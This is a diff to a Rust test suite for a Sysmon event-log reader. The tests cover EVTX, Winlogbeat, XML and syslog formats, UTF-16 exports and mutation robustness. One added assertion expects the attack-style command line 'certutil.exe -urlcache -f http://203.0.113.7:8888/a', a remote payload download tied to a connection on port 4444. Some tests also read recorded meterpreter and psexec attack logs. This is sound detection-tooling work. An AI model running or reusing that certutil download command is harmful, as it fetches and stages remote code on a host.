@@ -53,7 +53,7 @@ fn image_name(e: &SysmonEvent) -> String {
 fn evtx_sample(data: &Path, name: &str) -> SysmonLog {
     let p = data.join("sysmon/evtx-attack-samples").join(name);
     let log = read_path(&p);
-    assert_eq!(log.format, Some(SysmonFormat::Evtx), "{name}");
+    assert_eq!(log.format, SysmonFormat::Evtx, "{name}");
     log
 }
 
@@ -373,10 +373,8 @@ fn bad_chunk_magic_warns_and_reads_the_rest() {
             .find(|w| w.reason == "bad_chunk" && w.offset == offset)
             .unwrap_or_else(|| panic!("no warning for chunk {chunk}: {w:?}"));
         assert!(
-            hit.message.contains("sample_with_a_bad_chunk_magic.evtx")
-                && hit
-                    .message
-                    .contains(&format!("chunk {chunk} at offset {offset}")),
+            hit.message
+                .contains(&format!("chunk {chunk} at offset {offset}")),
             "{}",
             hit.message
         );
@@ -417,7 +415,7 @@ fn otrf_nxlog_counts() {
         let (_tmp, p) = otrf_host_log(&data, pair);
         let log = read_path(&p);
         let s = &log.stats;
-        assert_eq!(log.format, Some(SysmonFormat::JsonLines));
+        assert_eq!(log.format, SysmonFormat::JsonLines);
         assert_eq!((s.eid1, s.eid3, s.eid13), want, "{pair}: {s:?}");
         assert_eq!(s.bad_records, 0, "{pair}: {:?}", log.warnings.kept);
         assert_eq!(s.bad_fields, 0, "{pair}: {:?}", log.warnings.kept);
@@ -476,9 +474,9 @@ fn otrf_expected_join_rows_have_their_event() {
 #[test]
 fn winlogbeat_json() {
     let log = read_path(&fixture("winlogbeat.jsonl"));
-    assert_eq!(log.format, Some(SysmonFormat::JsonLines));
+    assert_eq!(log.format, SysmonFormat::JsonLines);
     let s = &log.stats;
-    assert_eq!((s.eid1, s.eid3, s.eid13), (1, 1, 1), "{s:?}");
+    assert_eq!((s.eid1, s.eid3, s.eid13), (2, 2, 1), "{s:?}");
     assert_eq!(
         s.other_provider_same_id, 1,
         "Bits-Client EID 3 is not taken"
@@ -486,6 +484,8 @@ fn winlogbeat_json() {
     assert_eq!(s.bad_records, 2);
     let bad: Vec<u64> = warned(&log, "bad_event").iter().map(|w| w.0).collect();
     assert_eq!(bad, [4, 5]);
+    let w = warned(&log, "bad_event");
+    assert!(w[0].1.starts_with("line 4: not JSON"), "{}", w[0].1);
     let e3 = of_id(&log, 3)[0];
     assert_eq!(e3.record, 1);
     assert_eq!(e3.offset, 0);
@@ -527,6 +527,29 @@ fn winlogbeat_json() {
         .ends_with(r"\Terminal Server\WinStations\RDP-Tcp\PortNumber"));
     assert_eq!(e13.details.as_deref(), Some("DWORD (0x00008402)"));
     assert_eq!(e13.ts.to_string(), "2023-05-04T10:11:16.500000Z");
+    // winlogbeat's sysmon module renames EventData to ECS fields.
+    let ecs3 = of_id(&log, 3)[1];
+    assert_eq!(ecs3.record, 7);
+    assert_eq!(ecs3.ts.to_string(), "2023-05-04T10:12:00.250000Z");
+    assert_eq!(ecs3.process_guid, e3.process_guid);
+    assert_eq!(
+        (ecs3.pid, ecs3.image.as_deref()),
+        (e3.pid, e3.image.as_deref())
+    );
+    assert_eq!(ecs3.user.as_deref(), Some(r"EXAMPLE\alice"));
+    assert_eq!(ecs3.initiated, Some(true));
+    assert_eq!(ecs3.protocol.as_deref(), Some("tcp"));
+    assert_eq!(
+        (ecs3.src, ecs3.sport, ecs3.dst, ecs3.dport),
+        (ip("192.0.2.10"), Some(50124), ip("203.0.113.7"), Some(4444))
+    );
+    let ecs1 = of_id(&log, 1)[1];
+    assert_eq!(ecs1.parent_process_guid, e3.process_guid);
+    assert_eq!(
+        ecs1.command_line.as_deref(),
+        Some("certutil.exe -urlcache -f http://203.0.113.7:8888/a")
+    );
+    assert_eq!(ecs1.parent_image, e3.image);
 }
 
 #[test]
@@ -572,7 +595,7 @@ fn nxlog_json() {
 #[test]
 fn event_xml_one_per_line() {
     let log = read_path(&fixture("events-per-line.xml"));
-    assert_eq!(log.format, Some(SysmonFormat::EventXml));
+    assert_eq!(log.format, SysmonFormat::EventXml);
     let s = &log.stats;
     assert_eq!((s.eid1, s.eid3, s.eid13), (0, 1, 1), "{s:?}");
     assert_eq!(s.other_provider_same_id, 1);
@@ -603,7 +626,7 @@ fn event_xml_one_per_line() {
 #[test]
 fn event_xml_exported_document() {
     let log = read_path(&fixture("exported.xml"));
-    assert_eq!(log.format, Some(SysmonFormat::EventXml));
+    assert_eq!(log.format, SysmonFormat::EventXml);
     let s = &log.stats;
     assert_eq!(
         (s.eid1, s.eid3, s.eid13, s.other_ids),
@@ -624,7 +647,7 @@ fn event_xml_exported_document() {
 #[test]
 fn linux_sysmon_syslog() {
     let log = read_path(&fixture("linux-syslog.log"));
-    assert_eq!(log.format, Some(SysmonFormat::Syslog));
+    assert_eq!(log.format, SysmonFormat::Syslog);
     let s = &log.stats;
     assert_eq!((s.eid1, s.eid3), (1, 1), "{s:?}");
     assert_eq!(s.other_lines, 1, "the sshd line");
@@ -653,7 +676,7 @@ fn linux_sysmon_syslog() {
 #[test]
 fn syslog_as_json() {
     let log = read_path(&fixture("journald.jsonl"));
-    assert_eq!(log.format, Some(SysmonFormat::JsonLines));
+    assert_eq!(log.format, SysmonFormat::JsonLines);
     let s = &log.stats;
     assert_eq!(s.eid3, 2, "{s:?}");
     assert_eq!(s.other_lines, 1, "the cron record");
@@ -663,6 +686,48 @@ fn syslog_as_json() {
     assert_eq!((ev[0].record, ev[0].sport), (1, Some(40404)));
     assert_eq!((ev[1].record, ev[1].sport), (2, Some(40405)));
     assert_eq!(ev[1].dport, Some(8088));
+}
+
+#[test]
+fn utf16_exports_read_like_utf8() {
+    // Windows PowerShell 5 writes `wevtutil qe ... /f:xml > f.xml` and
+    // `ConvertTo-Json > f.json` as UTF-16 with a byte-order mark.
+    for f in ["exported.xml", "events-per-line.xml", "winlogbeat.jsonl"] {
+        let utf8 = read_path(&fixture(f));
+        let text = std::fs::read_to_string(fixture(f)).unwrap();
+        for le in [true, false] {
+            let mut utf16 = if le {
+                vec![0xff, 0xfe]
+            } else {
+                vec![0xfe, 0xff]
+            };
+            for u in text.encode_utf16() {
+                utf16.extend(if le { u.to_le_bytes() } else { u.to_be_bytes() });
+            }
+            let log = sysmon::read(f, &utf16).unwrap();
+            assert_eq!(log.format, utf8.format, "{f}");
+            assert_eq!(log.stats, utf8.stats, "{f}");
+            assert_eq!(log.events, utf8.events, "{f}");
+        }
+    }
+}
+
+#[test]
+fn overlong_lines_are_skipped_with_a_warning() {
+    let good = std::fs::read_to_string(fixture("winlogbeat.jsonl")).unwrap();
+    let good = good.lines().next().unwrap();
+    let long = format!(
+        "{{\"winlog\":{{\"x\":\"{}\"}}}}",
+        "a".repeat(sysmon::MAX_LINE_LEN)
+    );
+    let data = format!("{good}\n{long}\n{good}\n");
+    let log = sysmon::read("long.jsonl", data.as_bytes()).unwrap();
+    assert_eq!(log.stats.eid3, 2);
+    assert_eq!(log.stats.bad_records, 1);
+    let w = warned(&log, "bad_event");
+    assert_eq!(w[0].0, 2);
+    assert!(w[0].1.contains("over 1048576"), "{}", w[0].1);
+    assert_eq!(log.events[1].offset, (good.len() + long.len() + 2) as u64);
 }
 
 #[test]
@@ -686,22 +751,25 @@ impl XorShift {
     }
 }
 
-fn mutate_never_panics(name: &str, orig: &[u8], rounds: usize, seed: u64) {
+/// Reads `rounds` mutants of `orig` (cut short, bits flipped, a run of
+/// bytes overwritten), the changes falling in `orig[..region]`.
+fn mutate_never_panics(name: &str, orig: &[u8], region: usize, rounds: usize, seed: u64) {
+    let region = region.min(orig.len());
     let mut rng = XorShift(seed);
     let mut buf = orig.to_vec();
     for round in 0..rounds {
         buf.clear();
         buf.extend_from_slice(orig);
         match round % 3 {
-            0 => buf.truncate(rng.next() as usize % orig.len()),
+            0 => buf.truncate(rng.next() as usize % region),
             1 => {
                 for _ in 0..1 + rng.next() % 16 {
-                    let i = rng.next() as usize % buf.len();
+                    let i = rng.next() as usize % region;
                     buf[i] ^= 1 << (rng.next() % 8);
                 }
             }
             _ => {
-                let i = rng.next() as usize % buf.len();
+                let i = rng.next() as usize % region;
                 let n = (rng.next() as usize % 64).min(buf.len() - i);
                 let r = rng.next() as u8;
                 buf[i..i + n].fill(r);
@@ -724,7 +792,7 @@ fn mutated_text_fixtures_never_panic() {
         "journald.jsonl",
     ] {
         let orig = std::fs::read(fixture(f)).unwrap();
-        mutate_never_panics(f, &orig, 600, 0x9e37_79b9_7f4a_7c15);
+        mutate_never_panics(f, &orig, orig.len(), 600, 0x9e37_79b9_7f4a_7c15);
     }
 }
 
@@ -733,11 +801,24 @@ fn mutated_evtx_never_panics() {
     let Some(data) = common::shared_data() else {
         return;
     };
-    let p = data.join(
-        "sysmon/evtx-attack-samples/Execution_sysmon_mshta_sharpshooter_stageless_meterpreter.evtx",
-    );
+    let p = data
+        .join("sysmon/evtx-attack-samples/Lateral_Movement_LM_sysmon_psexec_smb_meterpreter.evtx");
     let orig = std::fs::read(p).unwrap();
-    mutate_never_panics("mshta.evtx", &orig, 60, 0xdead_beef_cafe_f00d);
+    // The file header and the one chunk in use (the rest is zeros).
+    let used = 4096 + 65536;
+    mutate_never_panics("psexec.evtx", &orig, used, 300, 0xdead_beef_cafe_f00d);
+    // Only the records' bytes (past the chunk header and its string and
+    // template tables, 512 bytes), where flips reach the BinXML parser.
+    let mut rng = XorShift(7);
+    let mut buf = orig.clone();
+    for _ in 0..300 {
+        buf.copy_from_slice(&orig);
+        for _ in 0..4 {
+            let i = 4096 + 512 + rng.next() as usize % (65536 - 512);
+            buf[i] ^= 1 << (rng.next() % 8);
+        }
+        let _ = sysmon::read("flipped.evtx", &buf);
+    }
     // Truncated at every chunk boundary and in the middle of one.
     for cut in [0, 8, 4096, 4096 + 512, 4096 + 65536 - 1, orig.len() - 1] {
         let _ = sysmon::read("cut.evtx", &orig[..cut.min(orig.len())]);
@@ -780,12 +861,17 @@ fn speed() {
     time("covenant NXLog JSON", &std::fs::read(p).unwrap());
 }
 
+/// `SYSMON_DUMP=FILE cargo test --test sysmon dump -- --ignored --nocapture`
+/// prints what the reader makes of FILE.
 #[test]
 #[ignore]
 fn dump() {
-    let p = std::env::var("SYSMON_DUMP").unwrap();
+    let Some(p) = std::env::var_os("SYSMON_DUMP") else {
+        eprintln!("set SYSMON_DUMP to a file");
+        return;
+    };
     let log = read_path(Path::new(&p));
-    eprintln!("{:?}\n{:#?}", log.stats, log.warnings.kept);
+    eprintln!("{:?} {:?}\n{:#?}", log.format, log.stats, log.warnings.kept);
     for e in &log.events {
         eprintln!("{e:?}");
     }
